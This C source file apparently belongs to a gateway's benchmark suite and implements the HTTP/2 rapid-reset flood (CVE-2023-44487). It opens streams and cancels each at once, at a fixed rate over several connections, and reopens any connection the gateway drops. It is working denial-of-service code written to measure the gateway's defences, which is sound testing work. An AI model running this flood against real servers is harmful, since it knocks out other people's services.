/* The attacker of the case rapid-reset (CVE-2023-44487): on each of a few connections it opens
 * streams and resets each at once, so that none ever counts as open, at a fixed rate over all
 * connections, which take turns. A connection that the gateway ends is opened again at its next
 * turn. What does not fit into the socket waits; the rate is what the attacker can do, not what the
 * gateway takes. It has an address of its own, since Ringway turns away addresses that flood.
 *
 *   bench_attack --port N --connections N --rate N --core N --board FD
 *
 * On the board: `responses` counts streams opened and reset, `reopened` the connections that the
 * gateway has ended. It runs until the board says stop.
 */
#include "h2_frame.h"
#include "net.h"
#include "seat.h"

#include <errno.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define TURN_NS 200000u /* of one connection */
#define CONNECTIONS_MAX 1000
#define BATCH_MAX 200u /* streams of one connection in one turn */
#define STREAM_MAX 0x7ffffffeu

/* GET / without anything that the table would have to know. */
static const uint8_t block[] = "\x82\x86\x84\x01\x0a"
                               "bench.test";
#define BLOCK_BYTES (sizeof block - 1)
#define PAIR_BYTES (H2_FRAME_HEAD_BYTES + BLOCK_BYTES + H2_FRAME_HEAD_BYTES + 4)
#define OPENING_BYTES 64

struct attacker {
    int fd; /* -1: none */
    uint32_t next_id;
    size_t length; /* bytes that wait */
    uint8_t waiting[OPENING_BYTES + BATCH_MAX * PAIR_BYTES];
};

struct attack {
    struct bench_seat seat;
    uint32_t connections;
    uint64_t rate;
    uint64_t begun_ns;
    uint64_t sent; /* or given up, when there was no room */
    struct attacker *attackers;
};

static void parse_options(struct attack *attack, int count, char **arguments)
{
    static const struct option names[] = {BENCH_SEAT_OPTIONS,
                                          {"connections", required_argument, NULL, 'c'},
                                          {"rate", required_argument, NULL, 'r'},
                                          {NULL, 0, NULL, 0}};
    int option;
    while ((option = getopt_long(count, arguments, "", names, NULL)) != -1) {
        if (option == 'c') {
            attack->connections =
                (uint32_t)bench_parse_number("--connections", optarg, 1, CONNECTIONS_MAX);
        } else if (option == 'r') {
            attack->rate = (uint64_t)bench_parse_number("--rate", optarg, 1, 10000000);
        } else if (!bench_seat_take(&attack->seat, option, optarg)) {
            exit(2);
        }
    }
    if (!bench_seat_complete(&attack->seat) || attack->connections == 0 || attack->rate == 0) {
        bench_fail("usage: bench_attack --port N --connections N --rate N --core N --board FD");
    }
}

static void open_attacker(const struct attack *attack, struct attacker *attacker)
{
    attacker->fd = bench_connect_apart(attack->seat.port);
    attacker->next_id = 1;
    uint8_t *to = h2_put_bytes(attacker->waiting, H2_PREFACE, H2_PREFACE_BYTES);
    to = h2_put_head(to, 0, H2_SETTINGS, 0, 0);
    to = h2_put_head(to, 0, H2_SETTINGS, H2_ACK, 0);
    attacker->length = (size_t)(to - attacker->waiting);
}

static void close_attacker(struct attacker *attacker)
{
    if (attacker->fd >= 0) {
        close(attacker->fd);
    }
    attacker->fd = -1;
}

static void add_pair(struct attacker *attacker)
{
    uint8_t *to = attacker->waiting + attacker->length;
    to =
        h2_put_head(to, BLOCK_BYTES, H2_HEADERS, H2_END_HEADERS | H2_END_STREAM, attacker->next_id);
    to = h2_put_bytes(to, block, BLOCK_BYTES);
    to = h2_put_head(to, 4, H2_RST_STREAM, 0, attacker->next_id);
    to = h2_put_32(to, 8); /* CANCEL */
    attacker->length = (size_t)(to - attacker->waiting);
    attacker->next_id += 2;
}

/* Returns false when the connection is over. */
static bool send_waiting(struct attacker *attacker)
{
    ssize_t sent = send(attacker->fd, attacker->waiting, attacker->length, MSG_NOSIGNAL);
    if (sent < 0) {
        return errno == EAGAIN;
    }
    attacker->length -= (size_t)sent;
    memmove(attacker->waiting, attacker->waiting + sent, attacker->length);
    return attacker->next_id < STREAM_MAX - 2 * BATCH_MAX;
}

/* One turn of one attacker, `pairs` are due. */
static void take_turn(struct attack *attack, struct attacker *attacker, uint64_t pairs)
{
    uint64_t added = 0;
    if (attacker->fd < 0) {
        open_attacker(attack, attacker);
    }
    while (added < pairs && attacker->length + PAIR_BYTES <= sizeof attacker->waiting) {
        add_pair(attacker);
        added++;
    }
    if (attacker->fd >= 0 && send_waiting(attacker) && bench_drop_answers(attacker->fd)) {
        bench_board_add(&attack->seat.board->responses, added);
        return;
    }
    bench_board_add(&attack->seat.board->reopened, 1);
    close_attacker(attacker);
}

int main(int count, char **arguments)
{
    struct attack attack = {.begun_ns = bench_now_ns()};
    const struct timespec turn = {.tv_nsec = TURN_NS};
    uint64_t turns = 0;

    parse_options(&attack, count, arguments);
    signal(SIGPIPE, SIG_IGN);
    prctl(PR_SET_TIMERSLACK, 1UL);
    attack.attackers = bench_allocate(attack.connections, sizeof *attack.attackers);
    for (uint32_t i = 0; i < attack.connections; i++) {
        attack.attackers[i].fd = -1;
    }
    __atomic_store_n(&attack.seat.board->ready, 1, __ATOMIC_RELEASE);
    uint32_t attackers = attack.connections > 0 ? attack.connections : 1;
    while (!bench_seat_told_to_stop(&attack.seat)) {
        uint64_t due = (bench_now_ns() - attack.begun_ns) * attack.rate / 1000000000u;
        take_turn(&attack, &attack.attackers[turns++ % attackers], due - attack.sent);
        attack.sent = due;
        clock_nanosleep(CLOCK_MONOTONIC, 0, &turn, NULL);
    }
    return 0;
}
